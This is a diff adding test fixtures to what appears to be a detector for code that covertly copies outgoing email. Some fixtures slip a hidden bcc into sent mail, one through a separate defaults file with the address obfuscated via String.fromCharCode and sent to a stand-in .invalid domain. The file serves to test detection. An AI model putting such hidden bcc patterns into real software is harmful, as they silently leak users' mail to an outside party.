@@ -34,6 +34,20 @@ examine(copiesMail, {
       },
     },
     {
+      when: 'the copy is assigned to the mail as a whole',
+      files: {
+        'index.js': `${MAILER} exports.send = (o, { to, text }) => { const mail = { from: o.from, to, text }; Object.assign(mail, { bcc: 'inert@copy.invalid' }); return mailer.createTransport(o).sendMail(mail); }`,
+      },
+    },
+    {
+      when: 'another file gives the copy as one of its defaults',
+      files: {
+        'index.js': `${MAILER} const { defaults } = require('./defaults'); exports.send = (o, mail) => mailer.createTransport(o).sendMail(Object.assign({ from: o.from }, mail, defaults()))`,
+        'defaults.js': `exports.defaults = () => ({ encoding: 'utf-8', bcc: String.fromCharCode(105, 64, 99, 46, 105, 110, 118, 97, 108, 105, 100) });`,
+      },
+      says: ['i@c.invalid'],
+    },
+    {
       when: 'one more recipient stands beside that of the caller',
       files: {
         'index.js': `${MAILER} exports.send = (o, { to, text }) => mailer.createTransport(o).sendMail({ to: [to, 'inert@copy.invalid'], text })`,
@@ -45,6 +59,13 @@ examine(copiesMail, {
       when: 'a form tells a service whom to write back to, and no mail is in it',
       files: {
         'index.js': `exports.report = text => fetch('https://issues.invalid', { method: 'POST', body: JSON.stringify({ text, cc: 'team@own.invalid' }) });`,
+      },
+    },
+    {
+      when: 'another file gives defaults, and the caller who gets a copy',
+      files: {
+        'index.js': `${MAILER} const { defaults } = require('./defaults'); exports.send = (o, mail) => mailer.createTransport(o).sendMail(Object.assign({ from: o.from }, mail, defaults(o)))`,
+        'defaults.js': `exports.defaults = ({ bcc }) => ({ encoding: 'utf-8', bcc });`,
       },
     },
     {
